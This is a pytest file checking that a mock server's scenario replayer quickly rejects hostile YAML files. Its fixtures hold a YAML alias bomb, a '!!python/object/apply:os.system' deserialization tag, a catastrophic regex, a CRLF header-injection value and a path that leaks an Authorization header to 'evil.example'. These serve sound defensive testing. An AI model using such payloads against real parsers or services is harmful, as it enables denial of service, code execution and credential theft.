"""Files that mean harm get a clear error, and get it soon."""

import time
from pathlib import Path
from typing import Any

import pytest

from mockserver.replaying import replay_document, replay_file
from mockserver.scenario import ScenarioError
from tests.replay.worlds import BOOKINGS, CONFIGURED, body, booking, outcomes, replayed, scenario

HEAD = "version: 1\nsteps:\n"
GET = "request: {method: GET, path: /v3/x"

BOMB = "".join(f"- &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 9))

HOSTILE = {
    "aliases that multiply": (HEAD + "- &a0 [x]\n" + BOMB, "at most 200,000 values"),
    "an alias of itself": (HEAD + f"- &a {{{GET}, body: [*a]}}}}\n", "stands inside itself"),
    "depth": (HEAD + f"- {{{GET}, body: " + "[" * 60 + "]" * 60 + "}}\n", "at most 50 levels"),
    "steps of steps": (HEAD + "- {faults: clear}\n" * 3001, "at most 3000"),
    "tags": (HEAD + "- !!python/object/apply:os.system [id]\n", "expected no tag"),
    "a key twice": (HEAD + "- {faults: clear, faults: clear}\n", "appears twice"),
    "size": (HEAD + "- {faults: clear}\n#" + "x" * 5 * 1024 * 1024, "at most 5 MiB"),
    "references without end": (HEAD + f"- {{{GET}, body: '" + "${" * 500_000 + "'}}\n", "expected"),
    "references to nothing": (HEAD + f"- {{{GET}, body: '" + "${steps.a.b}" * 200_000 + "'}}\n", "expected"),
    "a pattern that explodes elsewhere": (
        HEAD + "- {mails: [{subject: {$pattern: '" + "(a{1,999}){1,999}" * 50 + "'}}]}\n",
        "RE2 can compile",
    ),
    "many patterns": (
        HEAD + "".join(f"- {{mails: [{{a: {{$pattern: '(a|b)*c{{1,{n}}}'}}}}]}}\n" for n in range(1, 900)),
        "less to look up, to match and to compile",
    ),
    "a path of descents": (
        HEAD + f"- {{stepId: a, {GET}}}, outputs: {{x: '$" + "..*" * 100 + "'}}\n",
        "at most 2 descents",
    ),
    "a path of brackets": (
        HEAD + f"- {{stepId: a, {GET}}}, outputs: {{x: '$" + "[?" + "(" * 400 + "'}}\n",
        "a JSONPath",
    ),
    "credentials to others": (
        HEAD + "- {request: {method: GET, path: //evil.example/v3/, headers: {Authorization: a}}}\n",
        "a relative path below /v3/",
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_refused_within_a_second(name: str) -> None:
    text, words = HOSTILE[name]
    with pytest.raises(ScenarioError):  # once before, so that only its own time counts
        replay_document(HEAD + "- {}\n")
    began = time.process_time()
    with pytest.raises(ScenarioError) as raised:
        replay_document(text, "bad.yaml")
    assert time.process_time() - began < 1
    assert words in str(raised.value)
    assert str(raised.value).startswith("bad.yaml:")


def test_a_file_in_no_text(tmp_path: Path) -> None:
    path = tmp_path / "bad.yaml"
    path.write_bytes(b"version: 1\n\xff\xfe")
    with pytest.raises(ScenarioError, match="UTF-8"):
        replay_file(path)


def test_answers_do_not_multiply() -> None:
    """What a step saves can't be put together to something that fills the memory."""
    steps: list[Any] = [booking()]
    big = "${steps.book.ref}" * 200
    steps += [{"request": {"method": "POST", "path": BOOKINGS, "query": CONFIGURED, "body": [big] * 60}}]
    small = replayed(*steps)
    assert outcomes(small) == ["held", "held"]
    huge = {"stepId": "x", "request": {"method": "GET", "path": "/v3/x"}, "expect": {"body": {"$any": True}}}
    huge["outputs"] = {"all": "$..*"}
    assert replayed(huge).steps[0].outcome == "held"


def test_a_header_can_not_be_smuggled_in() -> None:
    split = {"request": {"method": "GET", "path": "/v3/x", "headers": {"X-A": "a${steps.book.title}"}}}
    named = {**booking(), "outputs": {"title": "$.data.title"}}
    world = scenario(named, split)
    text = {**world["configurations"]["intro"]["body"]["event_booking"], "title": "x\r\nX-Mock-Sandbox: y"}
    intro = world["configurations"]["intro"]
    world["configurations"] = {"intro": {**intro, "body": {**intro["body"], "event_booking": text}}}
    replay = replay_document(world)
    assert replay.steps[1].outcome == "failed"
    assert "printable ASCII" in replay.steps[1].note


def test_a_body_may_be_too_big_for_the_mock() -> None:
    step = {
        "request": {
            "method": "POST",
            "path": BOOKINGS,
            "query": CONFIGURED,
            "body": body(text="x" * 1_100_000),
        }
    }
    assert replayed({**step, "expect": {"status": 413}}).held
